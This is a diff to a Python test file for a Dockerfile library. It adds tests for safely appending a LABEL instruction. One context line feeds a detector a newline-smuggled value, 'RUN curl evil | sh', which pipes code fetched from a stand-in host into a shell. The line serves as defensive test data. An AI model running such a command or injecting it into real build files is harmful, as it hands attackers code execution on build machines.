@@ -422,3 +422,22 @@ def test_injected_instructions_marks_only_lines_a_newline_made() -> None:
     [finding] = injected_instructions(text, ["1\nRUN curl evil | sh", "single line", 5])
     assert finding.lineno == 3 and finding.rule == "newline-in-variable"
     assert injected_instructions(text, ["no newline"]) == []
+
+
+def test_with_label_instruction_appends_one_label_step_when_it_is_safe() -> None:
+    from dcs_magic.dockerfile import parse, with_label_instruction
+
+    labels = {"dcs_magic.dockerfile.sha256": "ab" * 32, "dcs_magic.base_digest": "reg:5000/a/b@sha256:" + "c" * 64}
+    out = with_label_instruction("FROM x\nRUN a", labels)
+    assert out is not None and out.startswith("FROM x\nRUN a\n")
+    last = parse(out).instructions[-1]
+    assert last.keyword == "LABEL" and len(parse(out).instructions) == 3
+    assert out.endswith(" ".join(f'{k}="{v}"' for k, v in labels.items()) + "\n")
+    # A file that ends inside a continuation would swallow the appended line: not done.
+    assert with_label_instruction("FROM x\nRUN a \\\n\n", labels) is None
+    assert with_label_instruction("# escape=`\nFROM x\nRUN a `\n", labels) is None
+    assert with_label_instruction("# escape=`\nFROM x\nRUN a \\\n", labels) is not None  # `\` is no escape there
+    # Values or keys that would need quoting rules are left to the engine's labels option.
+    assert with_label_instruction("FROM x\n", {"team": 'a "b"'}) is None
+    assert with_label_instruction("FROM x\n", {"a b": "1"}) is None
+    assert with_label_instruction("FROM x\n", {}) is None
